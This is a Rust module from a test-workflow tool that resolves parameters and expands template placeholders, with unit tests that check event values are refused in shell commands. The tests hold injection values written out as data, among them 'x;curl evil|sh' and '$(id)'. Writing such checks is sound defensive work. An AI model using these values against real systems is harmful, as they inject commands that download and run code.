//! Workflow parameters: `--set` overrides, resolution and `{{ config.NAME }}` expansion.

use crate::{Strategy, WorkflowSpec};
use std::collections::BTreeMap;

use crate::model::{ParameterInfo, Workflow};
use crate::{Error, Result};

/// Parses `--set` pairs (`k=v`; the value may contain '=').
pub fn parse_overrides(pairs: &[String]) -> Result<BTreeMap<String, String>> {
    let mut out = BTreeMap::new();
    for pair in pairs {
        match pair.split_once('=') {
            Some((k, v)) if !k.trim().is_empty() => {
                out.insert(k.trim().to_string(), v.to_string());
            }
            _ => return Err(Error::BadOverride(pair.clone())),
        }
    }
    Ok(out)
}

/// What a `{{ ... }}` placeholder refers to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Ref<'a> {
    /// `{{ config.NAME }}`
    Config(&'a str),
    /// `{{ matrix.KEY }}`
    Matrix(&'a str),
    /// `{{ event.… }}`
    Event(EventRef<'a>),
    /// `{{ ROOT.… }}` whose root is a likely misspelling of `config`, `matrix` or `event`
    /// (other `{{ … }}` text is left alone: shell scripts and other template languages use
    /// braces too).
    Misspelt { root: &'a str, known: &'static str },
}

/// What an `{{ event.… }}` placeholder names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum EventRef<'a> {
    /// `{{ event.labels.KEY }}`
    Label(&'a str),
    /// `{{ event.source }}`
    Source,
    /// `{{ event.type }}`
    Type,
    /// `{{ event.trigger }}`
    Trigger,
    /// Anything else under `event.` (`{{ event.sha }}`): an error.
    Unknown(&'a str),
}

/// The roots a template may name.
pub(crate) const TEMPLATE_ROOTS: [&str; 3] = ["config", "matrix", "event"];

/// What `{{ event.… }}` may name, for messages.
pub const EVENT_FIELDS: &str = "event.labels.<key>, event.source, event.type, event.trigger";

/// One `{{ ... }}` found in a template: byte range and what it refers to, if anything we
/// expand.
struct Placeholder<'a> {
    start: usize,
    end: usize,
    target: Option<Ref<'a>>,
}

fn is_word(s: &str) -> bool {
    !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

fn event_ref(rest: &str) -> EventRef<'_> {
    match rest {
        "source" => EventRef::Source,
        "type" => EventRef::Type,
        "trigger" => EventRef::Trigger,
        _ => match rest.strip_prefix("labels.") {
            Some(key) if !key.is_empty() && !key.contains(char::is_whitespace) => {
                EventRef::Label(key)
            }
            _ => EventRef::Unknown(rest),
        },
    }
}

fn placeholders(template: &str) -> Vec<Placeholder<'_>> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(open) = template[from..].find("{{") {
        let start = from + open;
        let Some(close) = template[start + 2..].find("}}") else {
            break;
        };
        let end = start + 2 + close + 2;
        let inner = template[start + 2..end - 2].trim();
        let name = |prefix: &str| {
            inner
                .strip_prefix(prefix)
                .map(str::trim)
                .filter(|n| !n.is_empty() && !n.contains(char::is_whitespace))
        };
        let target = name("config.")
            .map(Ref::Config)
            .or_else(|| name("matrix.").map(Ref::Matrix))
            .or_else(|| name("event.").map(|rest| Ref::Event(event_ref(rest))))
            .or_else(|| misspelt_root(inner));
        out.push(Placeholder { start, end, target });
        from = end;
    }
    out
}

/// `{{ evnet.labels.sha }}`: a dotted name whose root is close to a known one.
fn misspelt_root(inner: &str) -> Option<Ref<'_>> {
    let (root, rest) = inner.split_once('.')?;
    if !is_word(root) || rest.is_empty() || rest.contains(char::is_whitespace) {
        return None;
    }
    if TEMPLATE_ROOTS.contains(&root) {
        return None;
    }
    // Close in spelling (one or two edits) and not a short word of its own (`env`, `vars`).
    let best = TEMPLATE_ROOTS.into_iter().find(|known| {
        root.len() >= 4 && strsim::damerau_levenshtein(&root.to_lowercase(), known) <= 2
    })?;
    Some(Ref::Misspelt { root, known: best })
}

/// What a template refers to (`{{ config.NAME }}`, `{{ matrix.KEY }}`, `{{ event.… }}`).
pub(crate) fn template_refs(template: &str) -> Vec<Ref<'_>> {
    placeholders(template)
        .into_iter()
        .filter_map(|p| p.target)
        .collect()
}

/// The event or request an execution is planned from, as templates see it:
/// `{{ event.source }}`, `{{ event.type }}`, `{{ event.trigger }}`, `{{ event.labels.KEY }}`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct EventContext {
    pub source: String,
    pub r#type: String,
    /// The trigger that fired (empty for run requests).
    pub trigger: String,
    pub labels: BTreeMap<String, String>,
}

/// What templates expand from: resolved config, one matrix combination and the event.
/// A part left `None` leaves its placeholders as they are.
#[derive(Debug, Clone, Copy)]
pub struct TemplateVars<'a> {
    pub config: &'a BTreeMap<String, String>,
    pub matrix: Option<&'a BTreeMap<String, String>>,
    pub event: Option<&'a EventContext>,
}

impl TemplateVars<'_> {
    /// Expands a value that is not read by a shell (an environment variable's value).
    pub fn expand(&self, template: &str) -> Result<String> {
        expand_with(template, self, false)
    }

    /// Expands a shell command (`run`, `tests.list`, `tests.run`). Event values come from
    /// outside (a webhook's branch name, a publisher's source), so one that a shell would
    /// read as more than a plain word (`;`, `$`, quotes, spaces, …) is refused: pass it
    /// through `env` and quote the variable instead.
    pub fn expand_shell(&self, template: &str) -> Result<String> {
        expand_with(template, self, true)
    }
}

/// Expands `{{ config.NAME }}` (whitespace inside the braces optional) from resolved config.
///
/// Other `{{ ... }}` text, `{{ matrix.KEY }}` and `{{ event.… }}` included, is left as it
/// is, so shell scripts that use braces keep working.
pub fn expand(template: &str, config: &BTreeMap<String, String>) -> Result<String> {
    let vars = TemplateVars {
        config,
        matrix: None,
        event: None,
    };
    expand_with(template, &vars, false)
}

/// Expands `{{ config.NAME }}` from resolved config and `{{ matrix.KEY }}` from one matrix
/// combination. Other `{{ ... }}` text (`{{ event.… }}` too) is left as it is.
pub fn expand_matrix(
    template: &str,
    config: &BTreeMap<String, String>,
    combination: &BTreeMap<String, String>,
) -> Result<String> {
    let vars = TemplateVars {
        config,
        matrix: Some(combination),
        event: None,
    };
    expand_with(template, &vars, false)
}

/// Whether a shell reads `value` as one plain word: letters, digits and `-_./:@+=,%`.
pub fn is_shell_word(value: &str) -> bool {
    value
        .chars()
        .all(|c| c.is_alphanumeric() || "-_./:@+=,%".contains(c))
}

fn expand_with(template: &str, vars: &TemplateVars<'_>, shell: bool) -> Result<String> {
    let mut out = String::with_capacity(template.len());
    let mut last = 0;
    for p in placeholders(template) {
        let value = match (p.target, vars.matrix, vars.event) {
            (Some(Ref::Config(name)), _, _) => {
                vars.config
                    .get(name)
                    .ok_or_else(|| Error::UnknownTemplateVariable {
                        name: name.to_string(),
                        known: vars.config.keys().cloned().collect(),
                    })?
            }
            (Some(Ref::Matrix(key)), Some(combination), _) => {
                combination
                    .get(key)
                    .ok_or_else(|| Error::UnknownMatrixKey {
                        name: key.to_string(),
                        known: combination.keys().cloned().collect(),
                    })?
            }
            (Some(Ref::Event(field)), _, Some(event)) => {
                let placeholder = template[p.start..p.end].to_string();
                let value = match field {
                    EventRef::Source => &event.source,
                    EventRef::Type => &event.r#type,
                    EventRef::Trigger => &event.trigger,
                    EventRef::Label(key) => {
                        event
                            .labels
                            .get(key)
                            .ok_or_else(|| Error::MissingEventLabel {
                                placeholder,
                                name: key.to_string(),
                                known: event.labels.keys().cloned().collect(),
                            })?
                    }
                    EventRef::Unknown(rest) => {
                        return Err(Error::UnknownEventField {
                            placeholder,
                            name: rest.to_string(),
                        });
                    }
                };
                if shell && !is_shell_word(value) {
                    return Err(Error::UnsafeEventValue {
                        placeholder: template[p.start..p.end].to_string(),
                        value: value.clone(),
                    });
                }
                value
            }
            _ => continue,
        };
        out.push_str(&template[last..p.start]);
        out.push_str(value);
        last = p.end;
    }
    out.push_str(&template[last..]);
    Ok(out)
}

/// The most combinations a matrix may expand to: `ASSAY_MATRIX_LIMIT` when set to a
/// positive number (at most 4,096), else 256. Validation and planning both hold to it.
pub fn matrix_limit() -> usize {
    std::env::var("ASSAY_MATRIX_LIMIT")
        .ok()
        .and_then(|v| v.trim().parse::<usize>().ok())
        .filter(|n| *n > 0)
        .unwrap_or(DEFAULT_MATRIX_LIMIT)
        .min(MAX_MATRIX_LIMIT)
}

/// The most [`matrix_limit`] may be raised to (queue batches of a combination are
/// numbered in a range of their own, 4,096 ranges in all).
pub const MAX_MATRIX_LIMIT: usize = 4096;

/// What a `sensitive: true` parameter's value shows as wherever assay prints or records it
/// (logs, results, execution records).
pub const MASKED: &str = "***";

/// Default of [`matrix_limit`].
pub const DEFAULT_MATRIX_LIMIT: usize = 256;

/// A matrix combination's label, `key=value` pairs in key order joined by `,`
/// (`os=linux,python=3.12`); empty for the one combination of a workflow without matrix.
/// Test ids of a matrix shard carry it: `tests/a.py::t [os=linux,python=3.12]`.
pub fn variant_label(combination: &BTreeMap<String, String>) -> String {
    combination
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect::<Vec<_>>()
        .join(",")
}

fn scalar(v: &serde_norway::Value) -> String {
    match v {
        serde_norway::Value::String(s) => s.clone(),
        serde_norway::Value::Number(n) => n.to_string(),
        serde_norway::Value::Bool(b) => b.to_string(),
        serde_norway::Value::Null => String::new(),
        other => serde_norway::to_string(other)
            .unwrap_or_default()
            .trim()
            .to_string(),
    }
}

impl WorkflowSpec {
    /// The matrix combinations, first parameter varying slowest: one empty combination when
    /// the workflow has no matrix. Fails over [`matrix_limit`] (the error says how many it
    /// would have been) or for a parameter without values.
    pub fn combinations(&self) -> Result<Vec<BTreeMap<String, String>>> {
        let Some(matrix) = &self.parallel.matrix else {
            return Ok(vec![BTreeMap::new()]);
        };
        let params: BTreeMap<String, Vec<String>> = matrix
            .iter()
            .map(|(k, vs)| (k.clone(), vs.iter().map(scalar).collect()))
            .collect();
        assay_plan::expand_matrix(&params, matrix_limit())
            .map_err(|e| Error::Matrix(format!("parallel.matrix: {e}")))
    }

    /// The sharding strategy in force: the declared one, else `queue` when the workflow lists
    /// its tests (workers pull batches, so shards finish together) and `count` when it does not.
    pub fn strategy(&self) -> Strategy {
        self.parallel
            .strategy
            .unwrap_or(if self.tests.as_ref().is_some_and(|t| t.list.is_some()) {
                Strategy::Queue
            } else {
                Strategy::Count
            })
    }
}

impl Workflow {
    /// Declared defaults overlaid with `overrides`.
    ///
    /// Fails for an undeclared key, a required parameter without value, or a value of the
    /// wrong type. Integer and boolean values come back in canonical form.
    pub fn resolve_config(
        &self,
        overrides: &BTreeMap<String, String>,
    ) -> Result<BTreeMap<String, String>> {
        let config = &self.spec.config;
        if let Some(name) = overrides.keys().find(|k| !config.contains_key(*k)) {
            return Err(Error::UnknownParameter {
                workflow: self.name.clone(),
                name: name.clone(),
                known: config.keys().cloned().collect(),
            });
        }
        let mut out = BTreeMap::new();
        for (name, param) in config {
            let Some(value) = overrides.get(name).or(param.default.as_ref()) else {
                return Err(Error::MissingParameter {
                    workflow: self.name.clone(),
                    name: name.clone(),
                });
            };
            let Some(value) = param.r#type.check(value) else {
                return Err(Error::BadParameterValue {
                    workflow: self.name.clone(),
                    name: name.clone(),
                    value: value.clone(),
                    expected: param.r#type.expected().to_string(),
                });
            };
            out.insert(name.clone(), value);
        }
        Ok(out)
    }

    /// The declared parameters, sorted by name.
    pub fn parameters(&self) -> Vec<ParameterInfo<'_>> {
        self.spec
            .config
            .iter()
            .map(|(name, p)| ParameterInfo {
                name,
                r#type: p.r#type,
                default: p.default.as_deref(),
                description: p.description.as_deref(),
                sensitive: p.sensitive,
                required: p.default.is_none(),
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn expands_with_and_without_spaces() {
        let c = cfg(&[("baseUrl", "http://x"), ("n", "3")]);
        assert_eq!(
            expand("{{ config.baseUrl }}/a?n={{config.n}}", &c).unwrap(),
            "http://x/a?n=3"
        );
        assert_eq!(
            expand("echo ${{ matrix.x }} {{", &c).unwrap(),
            "echo ${{ matrix.x }} {{"
        );
        let m = cfg(&[("py", "3.12"), ("os", "linux")]);
        assert_eq!(
            expand_matrix(
                "{{ matrix.os }}/{{matrix.py}} {{ config.n }} {{ other }}",
                &c,
                &m
            )
            .unwrap(),
            "linux/3.12 3 {{ other }}"
        );
        let err = expand_matrix("{{ matrix.pyy }}", &c, &m).unwrap_err();
        assert!(err.to_string().contains("matrix.pyy"), "{err}");
    }

    #[test]
    fn event_templates_expand_from_the_event() {
        let c = cfg(&[("n", "3")]);
        let m = cfg(&[("os", "linux")]);
        let event = EventContext {
            source: "github".into(),
            r#type: "push".into(),
            trigger: "on-push".into(),
            labels: cfg(&[("sha", "abc123"), ("branch", "main")]),
        };
        let vars = TemplateVars {
            config: &c,
            matrix: Some(&m),
            event: Some(&event),
        };
        assert_eq!(
            vars.expand_shell(
                "git checkout {{ event.labels.sha }} # {{event.source}}/{{ event.type }} by {{ event.trigger }} on {{ matrix.os }} n={{ config.n }}"
            )
            .unwrap(),
            "git checkout abc123 # github/push by on-push on linux n=3"
        );
        // Without an event, event placeholders stay (the old functions keep their meaning).
        assert_eq!(
            expand_matrix("{{ event.labels.sha }} {{ matrix.os }}", &c, &m).unwrap(),
            "{{ event.labels.sha }} linux"
        );
        let err = vars.expand("{{ event.labels.pr }}").unwrap_err();
        assert_eq!(
            err.to_string(),
            "the event has no label \"pr\" (labels: branch, sha)"
        );
        match err {
            Error::MissingEventLabel { placeholder, .. } => {
                assert_eq!(placeholder, "{{ event.labels.pr }}")
            }
            other => panic!("{other:?}"),
        }
        let none = EventContext::default();
        let vars_none = TemplateVars {
            event: Some(&none),
            ..vars
        };
        assert_eq!(
            vars_none
                .expand("{{ event.labels.sha }}")
                .unwrap_err()
                .to_string(),
            "the event has no label \"sha\" (labels: none)"
        );
        let err = vars.expand("{{ event.sha }}").unwrap_err().to_string();
        assert!(err.contains("names no event field \"event.sha\""), "{err}");
    }

    #[test]
    fn event_values_a_shell_would_interpret_stay_out_of_commands() {
        let c = cfg(&[]);
        let event = EventContext {
            labels: cfg(&[("branch", "x;curl evil|sh"), ("ok", "release/1.2_a-b")]),
            ..Default::default()
        };
        let vars = TemplateVars {
            config: &c,
            matrix: None,
            event: Some(&event),
        };
        let err = vars
            .expand_shell("git checkout {{ event.labels.branch }}")
            .unwrap_err();
        assert!(matches!(err, Error::UnsafeEventValue { .. }), "{err:?}");
        assert!(
            err.to_string().contains("put it in the step's `env`"),
            "{err}"
        );
        // The same value is fine where no shell reads it (an environment variable).
        assert_eq!(
            vars.expand("{{ event.labels.branch }}").unwrap(),
            "x;curl evil|sh"
        );
        assert_eq!(
            vars.expand_shell("{{ event.labels.ok }}").unwrap(),
            "release/1.2_a-b"
        );
        for bad in [
            "a b", "$(id)", "`id`", "a'b", "a\"b", "~root", "a&b", "a\nb", "*",
        ] {
            assert!(!is_shell_word(bad), "{bad:?}");
        }
    }

    proptest::proptest! {
        /// Whatever an event carries, a command gets it verbatim or not at all.
        #[test]
        fn shell_expansion_is_verbatim_or_refused(value in "\\PC{0,12}") {
            let c = cfg(&[]);
            let event = EventContext {
                labels: cfg(&[("k", value.as_str())]),
                ..Default::default()
            };
            let vars = TemplateVars { config: &c, matrix: None, event: Some(&event) };
            match vars.expand_shell("run {{ event.labels.k }} --x") {
                Ok(out) => {
                    proptest::prop_assert!(is_shell_word(&value));
                    proptest::prop_assert_eq!(out, format!("run {value} --x"));
                }
                Err(e) => {
                    proptest::prop_assert!(!is_shell_word(&value));
                    let refused = matches!(e, Error::UnsafeEventValue { .. });
                    proptest::prop_assert!(refused);
                }
            }
            proptest::prop_assert_eq!(vars.expand("{{ event.labels.k }}").unwrap(), value);
        }
    }

    #[test]
    fn template_refs_find_event_fields_and_misspelt_roots() {
        let refs = template_refs(
            "{{ event.labels.sha }} {{ event.source }} {{ event.sha }} {{ evnet.labels.x }} {{ env.X }} {{ item.name }} ${{ github.sha }}",
        );
        assert_eq!(
            refs,
            vec![
                Ref::Event(EventRef::Label("sha")),
                Ref::Event(EventRef::Source),
                Ref::Event(EventRef::Unknown("sha")),
                Ref::Misspelt {
                    root: "evnet",
                    known: "event"
                },
            ]
        );
    }

    #[test]
    fn combinations_and_labels() {
        let yaml = "apiVersion: assay.dev/v1alpha1\nkind: TestWorkflow\nmetadata: {name: m}\nspec:\n  steps: [{name: a, run: 'echo {{ matrix.py }}'}]\n  parallel: {count: 2, matrix: {py: [\"3.11\", 3.12], os: [linux, mac], fast: [true]}}\n";
        let w = match crate::parse_str(std::path::Path::new("m.yaml"), yaml)
            .unwrap()
            .remove(0)
        {
            crate::Definition::Workflow(w) => w,
            other => panic!("{other:?}"),
        };
        let combos = w.spec.combinations().unwrap();
        let labels: Vec<String> = combos.iter().map(variant_label).collect();
        assert_eq!(
            labels,
            [
                "fast=true,os=linux,py=3.11",
                "fast=true,os=linux,py=3.12",
                "fast=true,os=mac,py=3.11",
                "fast=true,os=mac,py=3.12"
            ]
        );
    }

    #[test]
    fn expand_unknown_name_fails() {
        let err = expand("{{ config.baseUrll }}", &cfg(&[("baseUrl", "x")])).unwrap_err();
        assert_eq!(
            err.to_string(),
            "template refers to unknown parameter \"config.baseUrll\"; did you mean \"baseUrl\"? (known: baseUrl)"
        );
    }

    #[test]
    fn overrides() {
        let got = parse_overrides(&["a=1".into(), "b=x=y".into(), "c=".into()]).unwrap();
        assert_eq!(got, cfg(&[("a", "1"), ("b", "x=y"), ("c", "")]));
        let err = parse_overrides(&["nope".into()]).unwrap_err();
        assert_eq!(
            err.to_string(),
            "--set takes k=v, got \"nope\"; write it as --set name=value"
        );
        assert!(parse_overrides(&["=v".into()]).is_err());
    }
}
